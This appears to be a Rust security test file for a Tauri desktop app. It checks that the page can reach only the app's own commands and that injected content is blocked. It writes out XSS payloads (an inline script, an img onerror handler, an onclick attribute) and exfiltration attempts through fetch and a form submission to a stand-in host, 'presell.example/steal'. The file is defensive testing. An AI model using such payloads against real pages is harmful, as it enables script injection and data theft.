//! The page may call our commands and nothing else, whatever is injected into it.

use serde_json::json;

use crate::driver::{Home, Window};

const INVOKE: &str = "window.__TAURI_INTERNALS__.invoke";

#[test]
fn the_page_reaches_our_commands_and_no_plugin() {
    let home = Home::new();
    let window = Window::open(&home);
    window.says("Pipeline");
    let jobs = window.promise(&format!("{INVOKE}('list_jobs', {{ args: {{}} }}).then((jobs) => jobs.length)"));
    assert!(jobs.as_u64() > Some(20), "our own commands answer: {jobs}");
    for refused in [
        "plugin:dialog|open",
        "plugin:notification|notify",
        "plugin:autostart|enable",
        "plugin:window|create",
        "plugin:webview|create_webview_window",
        "plugin:event|emit",
        "no_such_command",
    ] {
        let answer = window.promise(&format!("{INVOKE}({refused:?}, {{}})"));
        let why = answer["refused"].as_str().unwrap_or_else(|| panic!("{refused} must be refused: {answer}"));
        assert!(why.contains("not allowed") || why.contains("not found"), "{refused} is refused by name: {why}");
    }
}

#[test]
fn what_is_injected_into_the_page_does_not_run() {
    let home = Home::new();
    let window = Window::open(&home);
    window.says("Pipeline");
    window.script(
        "window.violations = [];
         document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.effectiveDirective));
         const script = document.createElement('script');
         script.textContent = 'window.ran = true';
         document.body.append(script);
         const image = document.createElement('div');
         image.innerHTML = '<img src=x onerror=\"window.ran = true\">';
         document.body.append(image);
         const styled = document.createElement('div');
         styled.setAttribute('onclick', 'window.ran = true');
         document.body.append(styled);
         styled.click();",
    );
    let fetched = window.promise("fetch('https://presell.example/steal')");
    assert!(fetched.get("refused").is_some(), "nothing leaves for elsewhere: {fetched}");
    let sent = window.promise("new Promise((done) => { const form = document.createElement('form'); form.action = 'https://presell.example/'; document.body.append(form); form.submit(); setTimeout(() => done(location.host), 200); })");
    assert_ne!(sent, json!("presell.example"), "no form leads elsewhere");
    assert_eq!(window.script("return window.ran ?? false"), json!(false), "no injected script ran");
    let told = window.script("return window.violations");
    assert!(told.as_array().is_some_and(|all| all.len() >= 3), "and the policy says what it stopped: {told}");
}
